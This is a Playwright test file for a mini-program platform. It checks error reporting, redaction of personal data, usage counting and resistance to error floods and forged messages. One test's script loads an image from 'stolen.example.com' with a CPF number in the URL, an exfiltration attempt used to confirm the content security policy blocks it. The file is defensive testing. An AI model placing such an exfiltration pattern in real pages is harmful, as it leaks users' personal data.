import { readUsage } from '@balcao/contract/usage';
import { listUsageFaults } from '@balcao/contract/usage-fault';
import { arrive, atWork, callerOf } from '../support/person.ts';
import { openOnPhone, type PublishedApplet, pageInFrame, pageOf, publish } from '../support/published-applet.ts';
import { type Browser, expect, type Frame, type Page, test } from '../support/test.ts';
import { expectAccessible } from '../support/watch.ts';

type Global = typeof globalThis & { balcao: { navigate: (to: { page: string }) => void } };
const ana = 'ana@cafe.example';

/** What its team is told of a mini program. */
const teamOf = async (baseURL: string | undefined, { id }: PublishedApplet) => {
  const call = callerOf(baseURL, await atWork(baseURL, ana));
  return {
    faults: async () => (await call(listUsageFaults, { params: { id }, query: { pageSize: 100 } })).list,
    usage: () => call(readUsage, { params: { id }, query: {} }),
  };
};
const openUsage = async (browser: Browser, baseURL: string | undefined, { id }: PublishedApplet): Promise<Page> => {
  const page = await (await browser.newContext(baseURL ? { baseURL } : {})).newPage();
  await arrive(page, await atWork(baseURL, ana), `/applet/${id}/usage`);
  return page;
};
const leave = (phone: Page) => phone.getByRole('link', { name: 'Fechar o miniprograma' }).click();

test('an error on a phone reaches its team with file, line and version, and nothing of the person', async ({
  browser,
  baseURL,
}) => {
  const script = [
    'const person = { name: "Bruna Carvalho", email: "bruna@example.com", cpf: "529.982.247-25" };',
    'const pay = () => {',
    '  throw new RangeError(["Sem saldo para ", person.name, ", " + person.email + ", CPF " + person.cpf].join(\'"\'));',
    '};',
    'pay();',
  ].join('\n');
  const files = { 'index.html': `${pageOf('Doces')}<script src="app.js"></script>`, 'app.js': script };
  const applet = await publish(baseURL, { files });
  const page = await openUsage(browser, baseURL, applet);
  await expect(page.getByText('Ninguém abriu o miniprograma nestes dias')).toBeVisible();
  await expect(page.getByText('Nenhum erro nestes dias')).toBeVisible();
  await expectAccessible(page);

  await openOnPhone(browser, baseURL, applet);
  const { faults } = await teamOf(baseURL, applet);
  await expect.poll(async () => (await faults()).length).toBe(1);
  await page.reload();
  const row = page.getByRole('row', { name: /app\.js:3:9/ });
  await expect(row).toContainText('RangeError: Sem saldo para "…", …, CPF #');
  await expect(row).toContainText('1.0.0');
  await expectAccessible(page);
  await row.getByRole('link').click();
  const panel = page.getByRole('dialog', { name: 'app.js:3:9' });
  await expect(panel).toContainText('Página index.html');
  await expect(panel).toContainText('1.0.0');
  await expectAccessible(page);
  const said = `${await page.locator('body').innerText()} ${JSON.stringify(await faults())}`;
  for (const personal of ['Bruna', 'bruna@', '529.982', '52998224725', 'Carvalho'])
    expect(said).not.toContain(personal);
});

test('what a promise throws and what the policy stops are errors, too', async ({ browser, baseURL }) => {
  const script = [
    'Promise.reject(new Error("Sem resposta"));',
    'document.body.append(Object.assign(new Image(), { src: "https://stolen.example.com/p?cpf=52998224725" }));',
  ].join('\n');
  const files = { 'index.html': `${pageOf('Doces')}<script type="module" src="app.js"></script>`, 'app.js': script };
  const applet = await publish(baseURL, { files });
  await openOnPhone(browser, baseURL, applet);
  const { faults } = await teamOf(baseURL, applet);
  await expect.poll(async () => (await faults()).length).toBe(2);
  const told = (await faults()).map(({ kind, message, file, line, page }) => ({ kind, message, file, line, page }));
  expect(told).toEqual(
    expect.arrayContaining([
      { kind: 'rejection', message: 'Error: Sem resposta', file: 'app.js', line: 1, page: 'index.html' },
      // Browsers do not tell a page without an origin which line it was.
      {
        kind: 'policy',
        message: 'img-src blocked https://stolen.example.com',
        file: null,
        line: null,
        page: 'index.html',
      },
    ]),
  );
});

test('openings, people, pages and time are counted', async ({ browser, baseURL }) => {
  const applet = await publish(baseURL, { files: { 'cart.html': pageOf('Carrinho') } });
  const { usage } = await teamOf(baseURL, applet);
  const { phone, frame } = await openOnPhone(browser, baseURL, applet);
  await expect.poll(async () => (await usage()).days.at(-1)).toMatchObject({ opens: 1, people: 1 });
  await frame.evaluate(() => (globalThis as Global).balcao.navigate({ page: 'cart.html' }));
  await expect(phone.frameLocator('iframe').getByRole('heading', { name: 'Carrinho' })).toBeVisible();
  await pageInFrame(phone, applet);
  await leave(phone);
  const pages = [
    { page: 'cart.html', views: 1 },
    { page: 'index.html', views: 1 },
  ];
  await expect.poll(async () => (await usage()).pages).toMatchObject(pages);
  await phone.goto(`/phone/applet/${applet.appId}`);
  await expect.poll(async () => (await usage()).days.at(-1)).toMatchObject({ opens: 2, people: 1, faulty: 0 });
  const page = await openUsage(browser, baseURL, applet);
  await expect(page.getByRole('table', { name: 'Páginas' })).toContainText('cart.html');
  await page.getByRole('button', { name: 'Tabela' }).click();
  await expect(page.getByRole('table', { name: 'Aberturas e pessoas por dia' })).toBeVisible();
  await page.getByRole('button', { name: '7 dias' }).click();
  await expect(page).toHaveURL(/span=days7/);
});

/** Says as the code of a page what only the API of the page is to say. */
const forge = (frame: Frame) =>
  frame.evaluate(async () => {
    const { port1, port2 } = new MessageChannel();
    parent.postMessage({ balcao: 1 }, '*', [port2]);
    const fault = { kind: 'error', page: 'index.html', file: 'index.html', line: 1, column: 1 };
    port1.postMessage({ fault: { ...fault, message: 'x'.repeat(100_000) } });
    port1.postMessage({ fault: { ...fault, message: 7 } });
    port1.postMessage({ path: 'nowhere.html' });
    for (let at = 0; at < 200; at += 1) {
      port1.postMessage({ path: 'index.html' });
      port1.postMessage({
        fault: { ...fault, message: `Falha ${'abcdefghij'[at % 10]}${'abcdefghij'[Math.floor(at / 10) % 10]}` },
      });
    }
    // The line is read in order: what comes back was asked after all of it.
    port1.start();
    await new Promise((done) => {
      port1.onmessage = ({ data }) => data.id === 1 && done(null);
      port1.postMessage({ id: 1, call: 'ready', args: {} });
    });
  });

test('a page that floods with errors neither ends itself nor fills the list', async ({ browser, baseURL }) => {
  const script =
    'for (let at = 0; at < 3_000; at += 1) queueMicrotask(() => { throw new Error("Falha ".padEnd(at % 400, "x")); });';
  const files = { 'index.html': `${pageOf('Doces')}<script type="module" src="app.js"></script>`, 'app.js': script };
  const applet = await publish(baseURL, { files });
  const { phone, frame } = await openOnPhone(browser, baseURL, applet);
  const { faults, usage } = await teamOf(baseURL, applet);
  await expect.poll(async () => (await faults()).length).toBe(20);
  await forge(frame);
  await leave(phone);
  await expect.poll(async () => (await usage()).pages[0]?.views).toBeGreaterThan(100);
  const { days, pages } = await usage();
  expect([days.at(-1)?.faulty, pages.map(({ page }) => page)]).toEqual([1, ['index.html']]);
  expect(await faults()).toHaveLength(20);
  expect((await faults()).every(({ message }) => message.length <= 300)).toBe(true);
});
